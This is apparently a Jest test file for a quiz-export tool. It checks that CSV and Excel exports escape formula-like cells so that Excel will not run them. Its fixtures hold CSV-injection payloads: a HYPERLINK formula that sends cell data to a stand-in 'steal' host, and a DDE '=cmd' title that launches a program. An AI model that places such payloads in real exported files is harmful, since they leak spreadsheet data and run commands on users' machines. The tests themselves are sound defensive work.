// A teacher opens an export in Excel before importing it: no cell may run as a formula there.
// CSVs are read back with csv-parse and spreadsheets with exceljs (and their raw sheet XML),
// readers that share nothing with the writers.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import type { ChoiceQuestion } from '../../../src/domain/question';
import { exportQuiz, type ExportFormat } from '../../../src/export';
import { inertCell } from '../../../src/export/csv';
import type { ExportableQuiz } from '../../../src/export/types';
import { questionOfKind } from '../../fixtures/exportQuiz';

// Each starts with one of OWASP's formula characters: = + - @ tab, carriage return.
const PROMPT = '=HYPERLINK("http://x.example/steal?"&A1,"Click for the answer")';
const OPTIONS = ['+1 more troops', '-2 brigades', '@SUM(A1:A9)', '\t=1+1', '\r=2+2'];

function formulaQuiz(): { quiz: ExportableQuiz; question: ChoiceQuestion } {
  const base = questionOfKind('MULTIPLE_CHOICE');
  const question: ChoiceQuestion = {
    ...base,
    prompt: PROMPT,
    options: OPTIONS.slice(0, 4).map((text, i) => ({ id: 'abcd'[i] as string, text, correct: i === 0, rationale: '' })),
    answer: { optionId: 'a' },
  };
  return { quiz: { id: 'formula', title: '=cmd|\' /C calc\'!A0', questions: [question] }, question };
}

function csvCells(content: Buffer, delimiter = ','): string[] {
  return (parse(content.toString('utf8'), { bom: true, delimiter, relax_column_count: true, relax_quotes: true }) as string[][]).flat();
}

describe('inertCell, OWASP’s remedy for CSV injection', () => {
  test.each(['=1+1', '+1', '-1', '@A1', '\tx', '\rx'])('%j gains a leading single quote and keeps the rest', (text) => {
    expect(inertCell(text)).toBe(`'${text}`);
  });
  test.each(['1+1', 'Kyiv', "'=already quoted", ' =space first', ''])('%j is left as it is', (text) => {
    expect(inertCell(text)).toBe(text);
  });
});

describe.each<[ExportFormat, string]>([
  ['BLOOKET', ','],
  ['GIMKIT', ','],
  ['BRIGHTSPACE', ','],
])('%s CSV, read back with csv-parse', (format, delimiter) => {
  test('every formula-like text comes back behind a single quote, the text after it intact', async () => {
    const { quiz } = formulaQuiz();
    const cells = csvCells((await exportQuiz(quiz, format)).content, delimiter);
    expect(cells).toContain(`'${PROMPT}`);
    for (const option of OPTIONS.slice(0, 4)) expect(cells).toContain(`'${option}`);
    // Nothing a spreadsheet would evaluate is left at the start of any cell.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

async function sheetCells(content: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

describe.each<ExportFormat>(['KAHOOT', 'QUIZIZZ'])('%s spreadsheet, read back with exceljs', (format) => {
  test('formula-like text is stored as text, unchanged, and no cell holds a formula', async () => {
    const { quiz } = formulaQuiz();
    const file = await exportQuiz(quiz, format);
    const cells = await sheetCells(file.content);
    const prompt = cells.find((cell) => String(cell.value).includes('HYPERLINK'));
    expect(prompt?.type).toBe(ExcelJS.ValueType.String);
    expect(prompt?.value).toBe(PROMPT);
    for (const option of OPTIONS.slice(0, 4)) {
      const cell = cells.find((c) => c.value === option);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
    }
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    // The raw sheet: shared strings (t="s") or inline strings only, never an <f> formula element.
    const zip = await JSZip.loadAsync(file.content);
    const sheetXml = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? '';
    // Excel's own guard for text typed with a leading quote: the cell's style says quotePrefix.
    expect(styles).toContain('quotePrefix="1"');
  });
});

describe('the quotePrefix style marks exactly the cells that start like a formula', () => {
  // Counted by hand: Kahoot writes the quiz title, the prompt and four options; Quizizz no title.
  test.each<[ExportFormat, number]>([
    ['KAHOOT', 6],
    ['QUIZIZZ', 5],
  ])('%s: %i cells carry it, and no header cell does', async (format, expected) => {
    const { quiz } = formulaQuiz();
    const zip = await JSZip.loadAsync((await exportQuiz(quiz, format)).content);
    const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? '';
    const xfs = [...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const prefixed = xfs.findIndex((xf) => xf.includes('quotePrefix="1"'));
    expect(prefixed).toBeGreaterThan(0);
    const sheet = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
    const marked = [...sheet.matchAll(new RegExp(`<c r="([A-Z]+)(\\d+)" s="${prefixed}"`, 'g'))];
    expect(marked).toHaveLength(expected);
    const headerRow = format === 'KAHOOT' ? '8' : '1';
    expect(marked.filter((m) => m[2] === headerRow)).toEqual([]);
  });
});
